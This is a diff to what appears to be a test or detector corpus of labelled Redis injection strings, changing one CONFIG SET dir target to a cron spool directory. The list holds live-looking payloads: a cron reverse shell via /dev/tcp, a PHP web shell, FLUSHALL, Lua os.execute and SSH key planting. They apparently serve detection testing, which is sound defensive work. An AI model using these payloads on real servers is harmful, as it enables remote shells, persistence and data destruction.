@@ -62,7 +62,7 @@ _TEXTS: Final[list[Statement]] = [
     *(("Redis injection", "redis", text) for text in (
         "GET x\r\nCONFIG SET dir /var/www/html", "GET x\r\n*1\r\n$8\r\nFLUSHALL", "SET x \n\n*/1 * * * * bash -i >& /dev/tcp/a/1\n\n",
         "EVAL \"os.execute('id')\" 0", "EVAL \"local f = package.loadlib('/usr/lib/x.so', 'luaopen_io')\" 0",
-        "EVAL \"redis.call('CONFIG', 'SET', 'dir', '/root/.ssh')\" 0", "SET x <?php system($_GET['c']); ?>",
+        "EVAL \"redis.call('CONFIG', 'SET', 'dir', '/var/spool/cron')\" 0", "SET x <?php system($_GET['c']); ?>",
         "GET user:1\\r\\nKEYS *", "SET k \n\nssh-rsa AAAAB3Nza a@b\n\n",
     )),
     *(("Cypher injection", "neo4j", text) for text in (
